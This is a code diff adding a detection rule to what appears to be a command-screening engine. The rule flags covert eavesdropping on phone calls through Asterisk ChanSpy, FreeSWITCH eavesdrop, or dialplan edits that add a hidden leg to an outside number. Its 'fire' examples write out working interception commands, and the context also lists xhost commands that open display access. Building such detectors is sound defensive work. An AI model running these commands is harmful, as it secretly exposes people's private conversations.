@@ -8,6 +8,8 @@ import { canonicalPath, isStagingPath, hiddenInTemp, inTemp } from '../knowledge
 import { globMatch } from '../knowledge/glob.js';
 import { clientQueries, throwawayClient } from '../knowledge/sql-clients.js';
 import { takesSecretOnStdin } from '../knowledge/credential-commands.js';
+import { callsSpiedOn, spyingDialplan } from '../knowledge/telephony.js';
+import { writtenOrRun } from './persistence.js';
 import { datastoreDump, downstream, personalFolder, secretAt } from './exfiltration.js';
 import { savedFile } from './command_and_control.js';
 import { windowsTechniques } from '../knowledge/windows.js';
@@ -499,6 +501,17 @@ export const RULES: readonly Rule[] = [
     examples: {
       fire: ['xhost +', 'DISPLAY=:0 xhost +inet:198.51.100.77', 'xhost +203.0.113.9'],
       quiet: ['xhost +SI:localuser:root', 'xhost +local:docker', 'xhost -', 'xhost -SI:localuser:root', 'xhost'],
+    },
+  },
+  {
+    id: 'PX-COLL-029', name: 'listens-to-calls', score: 85, tactic: 'collection', technique: 'T1123', strong: true,
+    message: "Listens in on other people's phone calls: ChanSpy, ExtenSpy or eavesdrop started or written into a dialplan, or an outside number added to the calls a dialplan places",
+    why: 'A spy channel or a second leg to an outside phone hands every word of the calls to whoever answers it, with no sign to the people talking.',
+    alternative: "Supervisors' listen-in is a feature the telephony team sets up for named agents, with its legal notice; record a call the user owns through its own recording settings.",
+    check: (i) => writtenOrRun(i, spyingDialplan, callsSpiedOn),
+    examples: {
+      fire: ["asterisk -rx 'channel originate PJSIP/+447700900123@trunk-main application ChanSpy PJSIP/1004,qE'", "echo 'exten => *5556,1,ChanSpy(,qEw)' >> /etc/asterisk/extensions_custom.conf", "fs_cli -x 'originate sofia/gateway/trunk1/+447700900456 &eavesdrop(all)'", "sed -i '/^exten => _NXXXXXX,1,/a exten => _NXXXXXX,n,Dial(PJSIP/${EXTEN}@trunk-main&PJSIP/+13125550177@trunk-main)' /etc/asterisk/extensions_custom.conf"],
+      quiet: ["asterisk -rx 'dialplan show from-internal-custom' | grep -i chanspy", "asterisk -rx 'channel originate Local/1001@from-internal application Playback tt-monkeys'", "echo 'exten => _NXXXXXX,1,Dial(PJSIP/${EXTEN}@trunk-main,60)' >> /etc/asterisk/extensions_custom.conf", "echo 'exten => 600,1,Dial(PJSIP/1001&PJSIP/1002,20)' >> /etc/asterisk/extensions_custom.conf"],
     },
   },
   {
